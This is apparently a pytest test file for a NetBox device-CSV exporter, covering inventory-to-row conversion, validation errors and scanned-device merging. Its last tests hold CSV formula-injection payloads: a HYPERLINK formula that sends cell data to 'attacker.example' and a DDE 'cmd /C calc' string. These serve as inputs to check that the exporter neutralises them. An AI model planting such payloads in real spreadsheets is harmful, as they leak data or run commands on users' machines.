"""netbox-devices-csv: inventory hosts as NetBox device-import rows, and a clear error for what NetBox needs."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from inventory import Inventory, load_inventory
from inventory.exports import export_inventory
from inventory.exports.netbox_csv import device_from_host
from inventory.model import Host
from opsctl.cli.main import main
from opsctl.core.errors import ConfigError

HOSPITAL = Path(__file__).parents[3] / "fixtures" / "inventories" / "hospital" / "inventory.yml"
HEADER = (
    "name,role,tenant,manufacturer,device_type,platform,serial,asset_tag,status,site,location,rack,"
    "position,face,latitude,longitude,parent,device_bay,airflow,virtual_chassis,vc_position,"
    "vc_priority,cluster,description,config_template,owner,comments,tags\n"
)
INVENTORY = """\
all:
  vars:
    opsctl_site: main-campus
    opsctl_building: Building A
  children:
    ups:
      hosts:
        ups1:
          ansible_host: 10.10.9.5
          opsctl_role: ups
          opsctl_manufacturer: Eaton
          opsctl_model: 93E 80kVA
          opsctl_serial: 4K234LXX06
          opsctl_rack: A-01
          opsctl_rack_position: 1
    core_switches:
      vars:
        opsctl_role: switch
        opsctl_manufacturer: Cisco
        opsctl_model: WS-C3850-48T
        opsctl_platform: cisco_ios
        opsctl_room: Server room 0.12
        opsctl_tags: [network, Core Switches]
      hosts:
        core-sw2:
          opsctl_status: planned
          opsctl_tags: "network, spare"
        core-sw1:
          ansible_host: 10.10.0.2
          opsctl_serial: FOC1234X0AB
          opsctl_asset_tag: HOSP-0042
          opsctl_rack: A-01
          opsctl_rack_position: "40"
          opsctl_rack_face: rear
"""
EXPECTED = HEADER + (
    "core-sw1,switch,,Cisco,WS-C3850-48T,cisco_ios,FOC1234X0AB,HOSP-0042,active,main-campus,"
    'Server room 0.12,A-01,40,rear,,,,,,,,,,,,,,"core-switches,network"\n'
    "core-sw2,switch,,Cisco,WS-C3850-48T,cisco_ios,,,planned,main-campus,"
    'Server room 0.12,,,,,,,,,,,,,,,,,"network,spare"\n'
    "ups1,ups,,Eaton,93E 80kVA,,4K234LXX06,,active,main-campus,"
    "Building A,A-01,1,front,,,,,,,,,,,,,,\n"
)
COMPLETE = {
    "opsctl_role": "server",
    "opsctl_manufacturer": "Dell",
    "opsctl_model": "PowerEdge R650",
    "opsctl_site": "main",
}


@pytest.fixture
def inventory_file(tmp_path: Path) -> Path:
    path = tmp_path / "inventory.yml"
    path.write_text(INVENTORY, encoding="utf-8")
    return path


def test_hosts_become_netbox_rows_with_group_variables_sorted_by_name(inventory_file: Path) -> None:
    assert export_inventory(load_inventory(inventory_file), "netbox-devices-csv") == EXPECTED


def test_the_command_prints_the_csv(
    inventory_file: Path,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("OPSCTL_STATE__DIR", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    assert main(["inventory", "export", "netbox-devices-csv", "--from", str(inventory_file)]) == 0
    assert capsys.readouterr().out == EXPECTED


def test_status_defaults_to_active_and_the_rows_read_back_by_column(inventory_file: Path) -> None:
    text = export_inventory(load_inventory(inventory_file), "netbox-devices-csv")
    assert isinstance(text, str)
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(text))}
    assert {name: row["status"] for name, row in rows.items()} == {
        "core-sw1": "active",
        "core-sw2": "planned",
        "ups1": "active",
    }
    assert rows["ups1"]["device_type"] == "93E 80kVA"


def test_an_inventory_without_the_netbox_variables_names_the_first_host_and_each_variable() -> None:
    with pytest.raises(ConfigError) as raised:
        export_inventory(load_inventory(HOSPITAL), "netbox-devices-csv")
    message = raised.value.message
    assert "host bastion.dc.hospital.example:" in message
    assert "opsctl_role, opsctl_manufacturer, opsctl_model, opsctl_site (not set)" in message
    assert "15 more hosts" in message
    assert "group_vars" in (raised.value.hint or "")


def test_only_the_missing_variable_is_named() -> None:
    host = Host("pacs01", {**COMPLETE, "opsctl_site": ""})
    with pytest.raises(ConfigError, match=r"^host pacs01: NetBox needs opsctl_site \(not set\)$"):
        device_from_host(host)


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"opsctl_role": "database"}, "opsctl_role must be one of server, switch"),
        ({"opsctl_status": "retired"}, "opsctl_status must be one of offline, active"),
        ({"opsctl_rack_position": 12}, "opsctl_rack_position needs opsctl_rack"),
        (
            {"opsctl_rack": "A-01", "opsctl_rack_position": "top"},
            "opsctl_rack_position must be a whole number",
        ),
        (
            {"opsctl_rack": "A-01", "opsctl_rack_face": "side"},
            "opsctl_rack_face must be one of front, rear",
        ),
        ({"opsctl_room": "0.12"}, "opsctl_room needs opsctl_building"),
        ({"opsctl_site": "{{ site }}"}, "opsctl_site is a Jinja template"),
        ({"opsctl_model": ["R650", "R660"]}, "opsctl_model must be a single value"),
        ({"opsctl_tags": {"tier": 1}}, "opsctl_tags must be a list"),
    ],
)
def test_an_unusable_value_is_a_config_error_naming_host_and_variable(
    extra: dict[str, Any], message: str
) -> None:
    inventory = Inventory(None, {"pacs01": Host("pacs01", {**COMPLETE, **extra})}, {})
    with pytest.raises(ConfigError) as raised:
        export_inventory(inventory, "netbox-devices-csv")
    assert raised.value.message.startswith("<data>: host pacs01: ")
    assert message in raised.value.message


def test_the_device_keeps_the_inventory_address_and_its_rack() -> None:
    device = device_from_host(
        Host(
            "ups1",
            {
                **COMPLETE,
                "ansible_host": "10.10.9.5",
                "opsctl_rack": "A-01",
                "opsctl_rack_position": 3,
            },
        )
    )
    assert (device.management_address, device.rack, device.rack_position, device.rack_face) == (
        "10.10.9.5",
        "A-01",
        3,
        None,
    )


# --- scanned devices (--scanned) ----------------------------------------------------------------


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["name"]: row for row in csv.DictReader(io.StringIO(text))}


def test_scanned_devices_take_the_inventory_s_placement_and_names_over_what_the_scan_found() -> None:
    from inventory.devices import Device
    from inventory.exports.netbox_csv import scanned_devices_csv

    scanned = [
        Device("ups1", "ups", manufacturer="EATON", model="EATON 93E 80", serial="4K234LXX06"),
        Device("10.0.0.9", "pdu", manufacturer="APC", model="AP8641", serial="3F3452A52295"),
        Device("lab-snmpd", "server", manufacturer="net-snmp"),  # no model: NetBox has no device type for it
    ]
    hosts = {"ups1": Host("ups1", {"opsctl_site": "main-campus", "opsctl_model": "93E 80kVA", "opsctl_rack": "A-01",
                                   "opsctl_rack_position": 3, "opsctl_status": "staged"})}
    text, left_out = scanned_devices_csv(scanned, hosts, site="annex")
    rows = _rows(text)
    assert text.startswith(HEADER)
    assert sorted(rows) == ["10.0.0.9", "ups1"]
    assert (rows["ups1"]["device_type"], rows["ups1"]["manufacturer"], rows["ups1"]["serial"]) == (
        "93E 80kVA", "EATON", "4K234LXX06")  # declared model wins, the scan's serial stays
    assert (rows["ups1"]["site"], rows["ups1"]["rack"], rows["ups1"]["position"], rows["ups1"]["face"],
            rows["ups1"]["status"]) == ("main-campus", "A-01", "3", "front", "staged")
    assert (rows["10.0.0.9"]["site"], rows["10.0.0.9"]["status"], rows["10.0.0.9"]["role"]) == (
        "annex", "active", "pdu")
    assert left_out == ["lab-snmpd: no model"]


def test_scanned_devices_without_a_site_are_left_out_and_named() -> None:
    from inventory.devices import Device
    from inventory.exports.netbox_csv import scanned_devices_csv

    text, left_out = scanned_devices_csv([Device("sw1", "switch", manufacturer="Cisco", model="WS-C3750G-12S-S")])
    assert text == HEADER
    assert left_out == ["sw1: no site"]


def test_a_bad_variable_on_a_scanned_device_s_host_is_a_config_error_naming_it() -> None:
    from inventory.devices import Device
    from inventory.exports.netbox_csv import scanned_devices_csv

    with pytest.raises(ConfigError, match="host sw1: opsctl_rack_position needs opsctl_rack"):
        scanned_devices_csv([Device("sw1", "switch", manufacturer="Cisco", model="X")],
                            {"sw1": Host("sw1", {"opsctl_rack_position": 4})}, site="s")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(start: str) -> None:
    from inventory import inventory_from_data

    formula = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"click")'
    inventory = inventory_from_data(
        {
            "all": {
                "hosts": {
                    "evil1": {
                        "opsctl_role": "server",
                        "opsctl_manufacturer": formula,
                        "opsctl_model": "R650",
                        "opsctl_site": "main",
                        "opsctl_serial": formula,
                        "opsctl_rack": "A-01",
                        "opsctl_rack_position": 3,
                    }
                }
            }
        }
    )
    text = str(export_inventory(inventory, "netbox-devices-csv"))
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["manufacturer"] == "'" + formula
    assert row["serial"] == "'" + formula
    assert row["device_type"] == "R650"
    assert row["position"] == "3"


def test_numbers_keep_their_sign_and_text_in_a_numeric_column_is_neutralised() -> None:
    from inventory.netbox import neutralise_cell

    assert neutralise_cell("latitude", "-33.86") == "-33.86"
    assert neutralise_cell("longitude", "+151.2") == "+151.2"
    assert neutralise_cell("latitude", "-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    assert neutralise_cell("serial", "-12345") == "'-12345"
    # the inventory's text variables are stripped; a tab or CR can still come from a scan
    assert neutralise_cell("serial", "\t=1+2") == "'\t=1+2"
    assert neutralise_cell("platform", "\r=1+2") == "'\r=1+2"
    assert neutralise_cell("name", "core-sw1") == "core-sw1"
